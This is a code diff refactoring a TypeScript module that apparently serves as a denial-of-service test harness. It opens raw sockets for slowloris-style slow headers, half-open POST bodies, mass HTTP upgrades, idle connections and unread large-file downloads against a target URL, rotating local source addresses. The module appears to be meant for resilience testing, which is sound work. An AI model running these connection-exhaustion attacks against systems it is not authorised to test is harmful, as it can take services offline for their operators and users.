@@ -1,8 +1,10 @@
 import { connect, type Socket } from 'node:net';
 import { setTimeout as wait } from 'node:timers/promises';
+import { ask } from '../http.ts';
 import { headOf, Tally, type Assault, type Attack, type Outcome } from './attack.ts';
 
-const HALF_OPEN = { atOnce: 300, perSecond: 20 };
+const HALF_OPEN = 300;
+const MORE_A_SECOND = 20;
 const UNREAD = { connections: 170, requests: 24 };
 const UPGRADES = 1_100;
 const IDLE = 1_000;
@@ -13,9 +15,9 @@ export const halfOpenBodies: Attack = (assault) => {
   const headers = { 'content-type': 'application/json', 'content-length': '100' };
   const head = `${headOf(assault.url, 'POST /rest/connect', headers)}{"accountN`;
   return hold(assault, {
-    first: (raw) => raw.open(HALF_OPEN.atOnce, { head }),
-    everyMs: 1_000 / HALF_OPEN.perSecond,
-    then: (raw) => raw.open(1, { head }),
+    heads: [[HALF_OPEN, head]],
+    everyMs: 1_000 / MORE_A_SECOND,
+    then: (raw) => raw.open(1, head),
   });
 };
 
@@ -37,25 +39,22 @@ export const upgrades: Attack = (assault) => {
     upgradeTo('h2c', { connection: 'Upgrade, HTTP2-Settings', 'http2-settings': 'AAMAAABkAAQAAP__' }),
     headOf(url, `CONNECT ${new URL(url).host}`),
   ];
-  return hold(assault, {
-    first: (raw) => heads.forEach((head) => raw.open(UPGRADES / heads.length, { head })),
-  });
+  return hold(assault, { heads: heads.map((head) => [UPGRADES / heads.length, head]) });
 };
 
 /** 1,000 connections that do nothing: every second one after an answer, the others from the beginning. */
 export const idleConnections: Attack = (assault) =>
   hold(assault, {
-    first: (raw) => {
-      raw.open(IDLE / 2, { head: headOf(assault.url, 'GET /robots.txt') });
-      raw.open(IDLE / 2, { head: '' });
-    },
+    heads: [
+      [IDLE / 2, headOf(assault.url, 'GET /robots.txt')],
+      [IDLE / 2, ''],
+    ],
   });
 
 /** 300 connections that send the head of a request one letter a second. */
 export const slowHeads: Attack = (assault) =>
   hold(assault, {
-    first: (raw) =>
-      raw.open(SLOW_HEADS, { head: `GET / HTTP/1.1\r\nhost: ${new URL(assault.url).host}\r\nx-a: ` }),
+    heads: [[SLOW_HEADS, `GET / HTTP/1.1\r\nhost: ${new URL(assault.url).host}\r\nx-a: `]],
     everyMs: 1_000,
     then: (raw) => raw.write('a'),
   });
@@ -63,25 +62,24 @@ export const slowHeads: Attack = (assault) =>
 async function askForFile(assault: Assault, reads: Reading): Promise<Outcome> {
   const file = await largestFileOf(assault.url);
   const question = headOf(assault.url, `GET ${file}`, { 'accept-encoding': 'identity' });
-  return hold(assault, {
-    first: (raw) => raw.open(UNREAD.connections, { head: question.repeat(UNREAD.requests), reads }),
-    everyMs: 1_000,
-    then: (raw) => {
-      if (reads === 'sips') raw.sip();
-    },
-  });
+  const heads = [[UNREAD.connections, question.repeat(UNREAD.requests)]] as const;
+  if (reads === 'nothing') return hold(assault, { heads, reads });
+  return hold(assault, { heads, reads, everyMs: 1_000, then: (raw) => raw.sip() });
 }
 
 type Holding = {
-  readonly first: (raw: RawConnections) => void;
-  readonly everyMs?: number;
+  /** How many connections send which bytes as soon as they are open. */
+  readonly heads: readonly (readonly [count: number, head: string])[];
+  readonly reads?: Reading;
+  /** What happens every now and then. */
   readonly then?: (raw: RawConnections) => void;
+  readonly everyMs?: number;
 };
 
 /** Opens connections, does something with them every now and then, and closes them when the attack is over. */
-async function hold(assault: Assault, { first, everyMs, then }: Holding): Promise<Outcome> {
-  const raw = new RawConnections(assault);
-  first(raw);
+async function hold(assault: Assault, { heads, reads = 'all', everyMs, then }: Holding): Promise<Outcome> {
+  const raw = new RawConnections(assault, reads);
+  for (const [count, head] of heads) raw.open(count, head);
   const timer = then && setInterval(() => then(raw), everyMs);
   await wait(assault.ms);
   clearInterval(timer);
@@ -93,18 +91,12 @@ const PAGE = '/simulator';
 
 /** The path of the largest script of a site. */
 async function largestFileOf(url: string): Promise<string> {
-  const page = await (await fetch(new URL(PAGE, url))).text();
-  const files = [
-    ...new Set([...page.matchAll(/"(\/_next\/static\/[^"?]+\.js)/g)].map(([, file = '']) => file)),
-  ];
-  const sizes = await Promise.all(files.map((file) => sizeOf(new URL(file, url))));
+  const page = (await ask(new URL(PAGE, url))).body;
+  const files = [...page.matchAll(/"(\/_next\/static\/[^"?]+\.js)/g)].map(([, file = '']) => file);
+  const sizes = await Promise.all(files.map(async (file) => (await ask(new URL(file, url))).bytes.length));
   const largest = files[sizes.indexOf(Math.max(...sizes))];
   if (largest === undefined) throw new Error(`${PAGE} of ${url} names no script`);
   return largest;
-}
-
-async function sizeOf(file: URL): Promise<number> {
-  return (await (await fetch(file)).arrayBuffer()).byteLength;
 }
 
 /** How long unread connections are read at the end to learn what was answered, in milliseconds. */
@@ -123,18 +115,20 @@ type Raw = { readonly socket: Socket; start: string };
 
 /** Plain connections of an attack, from its addresses in turn. No client library would behave like them. */
 class RawConnections {
-  readonly #assault: Pick<Assault, 'url' | 'from'>;
+  readonly #assault: Assault;
+  readonly #reads: Reading;
   readonly #tally = new Tally();
   readonly #all = new Set<Raw>();
   #made = 0;
 
-  constructor(assault: Pick<Assault, 'url' | 'from'>) {
+  constructor(assault: Assault, reads: Reading) {
     this.#assault = assault;
+    this.#reads = reads;
   }
 
   /** Starts as many connections, each of which sends `head` at once. */
-  open(count: number, { head, reads = 'all' }: { head: string; reads?: Reading }): void {
-    for (let at = 0; at < count; at += 1) this.#openOne(head, reads);
+  open(count: number, head: string): void {
+    for (let at = 0; at < count; at += 1) this.#openOne(head);
   }
 
   /** Writes the same to every open connection. */
@@ -161,7 +155,7 @@ class RawConnections {
     return outcome;
   }
 
-  #openOne(head: string, reads: Reading): void {
+  #openOne(head: string): void {
     const { url, from } = this.#assault;
     const { hostname, port } = new URL(url);
     const localAddress = from[this.#made++ % from.length];
@@ -170,9 +164,9 @@ class RawConnections {
       this.#read(raw, Buffer.from(buffer.subarray(0, bytes)));
       return false;
     };
-    const onread = reads === 'sips' ? { buffer: Buffer.alloc(SIP_BYTES), callback } : undefined;
+    const onread = this.#reads === 'sips' ? { buffer: Buffer.alloc(SIP_BYTES), callback } : undefined;
     const socket = connect({ host: hostname, port: Number(port), localAddress, onread });
-    if (reads !== 'all') socket.pause();
+    if (this.#reads !== 'all') socket.pause();
     const raw: Raw = { socket, start: '' };
     this.#all.add(raw);
     this.#listen(raw, head);
